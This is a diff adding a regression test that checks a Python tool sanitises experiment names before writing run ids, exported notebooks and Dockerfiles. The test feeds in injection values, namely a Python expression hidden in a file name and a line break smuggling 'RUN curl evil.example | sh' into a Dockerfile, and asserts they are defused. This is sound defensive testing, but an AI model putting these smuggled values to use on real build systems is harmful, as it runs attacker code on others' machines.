@@ -537,6 +537,40 @@ def test_export_docker_writes_a_context_that_parses_and_is_pinned(tmp_project: P
     assert check.returncode == 0 and check.stdout.startswith(str(target)), check.stderr
 
 
+def test_odd_experiment_names_give_safe_run_ids_notebooks_and_dockerfiles(
+    tmp_project: Path,
+) -> None:
+    """A name with braces, quotes or line breaks went raw into run ids (folders), into an
+    f-string of the exported notebook (code that ran when the notebook ran) and into the
+    Dockerfile (a line break started an instruction of its own)."""
+    from assay.export.docker import dockerfile
+    from assay.run_record import read_run_record
+
+    odd = tmp_project / "experiments" / "e{__import__('os').getpid()} \"q\".py"
+    shutil.copy(tmp_project / "experiments" / "diamond.py", odd)
+    assert run_cli("run", str(odd), "-p", "two", "-q", cwd=tmp_project).code == 0
+    with RunStore(tmp_project / "assay.db") as store:
+        run = store.get_run("latest")
+    assert run.experiment == odd.stem
+    assert re.fullmatch(r"[A-Za-z0-9_.+-]+-0001-\d{8}T\d{6}", run.id), run.id
+
+    assert run_cli("export", "notebook", "latest", cwd=tmp_project).code == 0
+    notebook = json.loads(next((tmp_project / "data" / "runs").rglob("*.ipynb")).read_text())
+    for cell in notebook["cells"]:
+        if cell["cell_type"] == "code":
+            compile("".join(cell["source"]), "cell", "exec")
+    assert "artifacts of {RUN_ID} came out" in "".join(notebook["cells"][-1]["source"])
+
+    assert run_cli("export", "full", "latest", cwd=tmp_project).code == 0
+    record = read_run_record(tmp_project / "data" / "runs" / run.id / "run.json")
+    record["run"]["experiment"] = "x\nRUN curl evil.example | sh\n"
+    record["run"]["id"] = 'an old "id"\nRUN curl evil.example | sh'
+    text = dockerfile(record, "assay-0-py3-none-any.whl")
+    instructions = parse_dockerfile(text)
+    assert not any(name == "RUN" and "curl" in arguments for name, arguments in instructions)
+    assert 'an_old_id_RUN_curl_evil.example_sh' in dict(instructions)["ENV"]
+
+
 def test_export_docker_builds_when_an_engine_answers(tmp_project: Path, monkeypatch) -> None:
     run_experiment("diamond", ["two"], project_root=tmp_project, command="t", store_full=True)
     bin_dir = tmp_project.parent / "bin"
